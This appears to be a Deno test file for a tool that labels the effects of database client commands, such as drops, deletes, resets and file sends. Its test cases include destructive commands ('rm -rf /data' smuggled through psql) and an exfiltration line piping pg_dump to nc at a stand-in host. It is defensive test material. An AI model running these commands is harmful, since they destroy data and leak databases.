/** Tests what clients of databases are said to do. */
import assert from "node:assert/strict";
import { DATABASES } from "../../../src/facts/programs/databases.ts";
import { told, untried } from "./told.ts";

const CASES: readonly (readonly [string, readonly string[]])[] = [
  ['psql -c "DROP TABLE users"', ["drop users"]],
  ['psql -c "select 1"', []],
  ["psql -f schema.sql", [
    "read /home/dev/project/schema.sql",
    "unresolved code",
  ]],
  ['echo "DELETE FROM a" | psql', ["delete all of a"]],
  ["psql -c \"copy x to program 'rm -rf /data'\"", [
    "unresolved code",
    "delete tree /data (remote)",
    "execute",
  ]],
  ['mysql -e "DELETE FROM users"', ["delete all of users"]],
  ['mysql -e "UPDATE t SET a=1 WHERE id=2"', ["update t"]],
  ['sqlcmd -Q "DROP DATABASE x"', ["drop x"]],
  ['cqlsh -e "TRUNCATE a"', ["truncate a"]],
  ['mongosh --eval "db.users.deleteMany({})"', ["delete all of users"]],
  ['mongosh --eval "db.users.deleteOne({a:1})"', ["delete users"]],
  ['mongosh --eval "db.dropDatabase()"', ["drop db"]],
  ['mongosh --eval "db.users.find()"', []],
  ["redis-cli FLUSHALL", ["flush flushall"]],
  ["redis-cli get x", []],
  ["redis-cli del x", ["delete x"]],
  ["redis-cli config set dir /tmp", ["alter config set dir"]],
  ["redis-cli eval \"redis.call('FLUSHDB')\" 0", [
    "flush eval redis.call('FLUSHDB') 0",
  ]],
  ["redis-cli shutdown", ["shutdown"]],
  ["dropdb prod", ["drop prod"]],
  ["createdb x", ["create x"]],
  ["mysqladmin drop x", ["drop x"]],
  ["mysqladmin status", []],
  ["pg_restore --clean -d prod a.dump", [
    "read /home/dev/project/a.dump",
    "drop prod",
  ]],
  ["pg_restore -l a.dump", []],
  ["pg_dump -f out.sql prod", ["write /home/dev/project/out.sql"]],
  ["prisma migrate reset --force", ["reset"]],
  ["prisma migrate deploy", ["migrate"]],
  ["rails db:drop", ["reset"]],
  ["rails db:migrate", ["migrate"]],
  ["rails server", []],
  ["alembic downgrade base", ["reset"]],
  ["alembic downgrade -1", ["rollback"]],
  ["php artisan migrate:fresh", ["reset"]],
  ["python manage.py flush", ["reset"]],
  ["pg_dump prod | nc a.example 9", ["send file to a.example"]],
  ["redis-cli --rdb dump.rdb", ["write /home/dev/project/dump.rdb"]],
  ["knex migrate:latest", ["migrate"]],
  ["psql -c '\\! rm -rf /data'", ["delete tree /data"]],
  ["redis-cli --scan | xargs redis-cli del", [
    "unresolved variable",
    "delete all of $input",
  ]],
  ["redis-cli del a b", ["delete a"]],
  [
    "influx delete --bucket b --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z",
    ["delete all of"],
  ],
  ["influx delete --bucket b --predicate '_measurement=\"x\"'", ["delete"]],
  ["influx bucket delete -n b", ["drop"]],
  ["influx query 'x'", []],
];

for (const [command, wanted] of CASES) {
  Deno.test(`DATABASES: ${command}`, () => {
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("DATABASES has a case for every row", () => {
  assert.deepEqual(untried(DATABASES, CASES.map(([command]) => command)), []);
});
